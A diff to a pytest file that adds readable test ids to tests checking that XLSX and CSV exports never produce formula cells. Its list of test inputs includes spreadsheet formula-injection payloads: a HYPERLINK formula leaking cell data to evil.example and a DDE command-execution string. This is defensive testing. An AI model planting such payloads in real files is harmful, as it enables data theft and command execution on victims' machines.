@@ -66,9 +66,11 @@ def test_xlsx_export_of_digit_like_text(run: Run, tmp_path: Path, odd: str) -> N
 
 
 ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "=cmd|' /C calc'!A0", "+1+1", "@SUM(A1)"]
+# Test ids without quotes: the mutation tool passes test ids through a shell.
+ATTACK_IDS = ["hyperlink", "dde", "plus", "at"]
 
 
-@pytest.mark.parametrize("attack", ATTACKS)
+@pytest.mark.parametrize("attack", ATTACKS, ids=ATTACK_IDS)
 def test_xlsx_cells_are_never_formulas(run: Run, tmp_path: Path, attack: str) -> None:
     openpyxl = pytest.importorskip("openpyxl")
     plan = _xlsx_plan(tmp_path, attack, unit=attack)
@@ -80,7 +82,7 @@ def test_xlsx_cells_are_never_formulas(run: Run, tmp_path: Path, attack: str) ->
     assert all(c.data_type == "s" for c in cells)
 
 
-@pytest.mark.parametrize("attack", [*ATTACKS, "-2"])
+@pytest.mark.parametrize("attack", [*ATTACKS, "-2"], ids=[*ATTACK_IDS, "minus"])
 def test_csv_cells_are_never_formulas(run: Run, tmp_path: Path, attack: str) -> None:
     plan = _xlsx_plan(tmp_path, attack)
     stdout = run("list", "-f", str(plan), "--today", "2020-08-01", "--format", "csv").stdout
